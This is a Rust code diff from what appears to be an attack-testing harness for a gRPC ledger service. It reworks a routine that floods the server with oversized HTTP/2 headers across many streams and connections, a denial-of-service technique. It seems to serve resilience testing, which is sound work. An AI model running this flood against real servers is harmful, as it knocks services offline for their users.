@@ -13,7 +13,7 @@ const APPLY: &str = "/snapledger.v1.LedgerService/Apply";
 /// A debug build takes so long to be filled.
 const LOADING: Duration = Duration::from_secs(6);
 /// Streams of one connection, as many as the server allows.
-const STREAMS: usize = 1024;
+const STREAMS: u32 = 1024;
 
 pub(crate) fn attacks() -> Vec<Attack> {
     vec![
@@ -79,7 +79,7 @@ async fn headers(target: Target) -> String {
 }
 
 async fn headers_of_two(target: Target) -> String {
-    let [one, other] = OTHERS.map(|from| many_headers(target, from, APPLY));
+    let [one, other] = OTHERS.map(|from| many_headers(target.clone(), from, APPLY));
     let (one, other) = tokio::join!(one, other);
     format!("{one}; {other}")
 }
@@ -92,23 +92,27 @@ async fn many_headers(target: Target, from: IpAddr, path: &str) -> String {
     let large = "h".repeat(14 * 1024);
     let head = grpc(path, &[("x-large", &large)]);
     let mut held = Vec::new();
-    let mut streams = 0;
     for _ in 0..16 {
-        let Ok(mut connection) = Http2::open(from, target.grpc, &[]).await else {
-            continue;
-        };
-        for _ in 0..STREAMS {
-            let stream = connection.stream();
-            if target.is_over()
-                || !connection
-                    .send(&frame(HEADERS, END_HEADERS, stream, &head))
-                    .await
-            {
-                break;
-            }
-            streams += 1;
+        held.extend(Http2::open(from, target.grpc, &[]).await);
+    }
+    let mut streams = 0;
+    // A connection that is held up for a moment has its turn again.
+    while !target.is_over() {
+        let has_room = |one: &&mut Http2| !one.is_closed() && one.streams() < STREAMS;
+        let mut open = held.iter_mut().filter(has_room).peekable();
+        if open.peek().is_none() {
+            break;
         }
-        held.push(connection);
+        for connection in open {
+            while !target.is_over() && connection.streams() < STREAMS {
+                let stream = connection.stream();
+                let head = frame(HEADERS, END_HEADERS, stream, &head);
+                if !connection.send(&head).await {
+                    break;
+                }
+                streams += 1;
+            }
+        }
     }
     target.end().await;
     format!(
